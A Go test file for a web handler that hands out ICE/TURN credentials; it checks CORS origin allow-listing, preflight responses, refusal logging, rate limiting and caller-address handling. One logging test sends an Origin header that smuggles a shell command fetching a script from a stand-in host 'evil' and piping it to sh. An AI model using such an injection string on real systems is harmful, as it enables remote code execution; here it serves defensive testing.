package web

import (
	"bytes"
	"log/slog"
	"net/netip"
	"strings"
	"testing"
)

func TestOriginsAtTheICEEndpoint(t *testing.T) {
	h := testHandler(t, listICE{}, quietLog(), "https://app.example")
	for _, c := range []struct {
		origin string
		status int
		allow  string // Access-Control-Allow-Origin
	}{
		{"", 200, ""}, // curl, native clients
		{"http://192.0.2.7:9001", 200, "http://192.0.2.7:9001"},
		{"http://192.0.2.7:3000", 200, "http://192.0.2.7:3000"}, // a developer's second server
		{"https://app.example", 200, "https://app.example"},
		{"https://app.example.evil.example", 403, ""},
		{"http://evil.example", 403, ""},
		{"null", 403, ""},
	} {
		var headers []string
		if c.origin != "" {
			headers = append(headers, "Origin: "+c.origin)
		}
		for _, target := range []string{"/api/ice", "/api/turn"} {
			w := ask(h, "GET", target, headers...)
			allow, vary := w.Header().Get("Access-Control-Allow-Origin"), w.Header().Get("Vary")
			if w.Code != c.status || allow != c.allow || vary != "Origin" {
				t.Errorf("%s from %q: %d, allows %q, varies by %q; want %d, %q", target, c.origin, w.Code, allow, vary, c.status, c.allow)
			}
			if hasCredential := strings.Contains(w.Body.String(), "key/of"); hasCredential != (c.status == 200) {
				t.Errorf("%s from %q: %s", target, c.origin, w.Body)
			}
		}
	}
}

func TestSeveralOriginsAreNobodys(t *testing.T) {
	h := testHandler(t, listICE{}, quietLog(), "https://app.example")
	if w := ask(h, "GET", "/api/ice", "Origin: https://app.example", "Origin: http://evil.example"); w.Code != 403 {
		t.Errorf("%d", w.Code)
	}
}

func TestPreflight(t *testing.T) {
	h := testHandler(t, listICE{}, quietLog(), "https://app.example")
	for _, c := range []struct {
		origin, target string
		status         int
		methods        string
	}{
		{"https://app.example", "/api/ice", 204, "GET, POST"},
		{"https://app.example", "/api/turn", 204, "GET, POST"},
		{"http://evil.example", "/api/ice", 403, ""},
	} {
		w := ask(h, "OPTIONS", c.target, "Origin: "+c.origin, "Access-Control-Request-Method: POST")
		if got := w.Header().Get("Access-Control-Allow-Methods"); w.Code != c.status || got != c.methods {
			t.Errorf("%s at %s: %d %q, want %d %q", c.origin, c.target, w.Code, got, c.status, c.methods)
		}
	}
	w := ask(h, "OPTIONS", "/api/ice", "Origin: https://app.example", "Access-Control-Request-Headers: authorization")
	if got := w.Header().Get("Access-Control-Allow-Headers"); got != "Authorization, Content-Type" {
		t.Errorf("headers %q", got) // an invite travels in one
	}
	w = ask(h, "OPTIONS", "/api/ice")
	if w.Code != 204 || w.Header().Get("Allow") != "GET, POST, OPTIONS" || w.Header().Get("Access-Control-Allow-Methods") != "" {
		t.Errorf("without an Origin: %d %v", w.Code, w.Header())
	}
}

func TestRefusalIsLoggedWithTheFlagThatWouldAllowIt(t *testing.T) {
	var out bytes.Buffer
	h := testHandler(t, listICE{}, slog.New(slog.NewTextHandler(&out, nil)))
	ask(h, "GET", "/api/ice", "Origin: https://app.example")
	if got := out.String(); !strings.Contains(got, `path=/api/ice`) || !strings.Contains(got, `allowWith="--http-origins https://app.example"`) {
		t.Error(got)
	}
	out.Reset()
	ask(h, "GET", "/api/ice", "Origin: https://app.example;curl$IFS-s${IFS}evil|sh")
	ask(h, "GET", "/api/ice", "Origin: https://app.example", "Origin: https://b.example")
	if got := out.String(); strings.Count(got, "\n") != 2 || strings.Contains(got, "allowWith") {
		t.Error(got)
	}
	for range 100 {
		ask(h, "GET", "/api/ice", "Origin: https://"+strings.Repeat("x", 5000))
	}
	if lines := strings.Count(out.String(), "\n"); lines > 10 {
		t.Errorf("%d log lines of 101 refusals", lines)
	}
	if out.Len() > 10_000 {
		t.Errorf("%d bytes of log", out.Len())
	}
}

func TestTooManyRequests(t *testing.T) {
	h := testHandler(t, listICE{}, quietLog())
	const from = "Origin: http://192.0.2.7:9001"
	for i := range callsBurst {
		if w := ask(h, "GET", "/api/ice", from); w.Code != 200 {
			t.Fatalf("request %d of an office that starts its day: %d", i, w.Code)
		}
	}
	limited := 0
	for range callsBurst {
		w := ask(h, "GET", "/api/turn", from)
		if w.Code != 429 {
			continue
		}
		limited++
		if w.Header().Get("Retry-After") != "1" || !strings.Contains(w.Body.String(), `"code":"too-fast"`) ||
			w.Header().Get("Access-Control-Allow-Origin") == "" {
			t.Fatalf("%v %s", w.Header(), w.Body)
		}
	}
	if limited == 0 {
		t.Error("never limited")
	}
	if w := ask(h, "GET", "/healthz"); w.Code != 200 {
		t.Errorf("the rest is not limited: %d", w.Code)
	}
}

func TestCallerAddrTakesNoClaims(t *testing.T) {
	r := requestAt("x", "192.0.2.7:9001")
	r.RemoteAddr = "192.0.2.9:555"
	r.Header.Set("X-Forwarded-For", "198.51.100.1")
	if got := callerAddr(r); got != netip.MustParseAddr("192.0.2.9") {
		t.Error(got)
	}
	r.RemoteAddr = "@"
	if got := callerAddr(r); got.IsValid() {
		t.Error(got)
	}
}
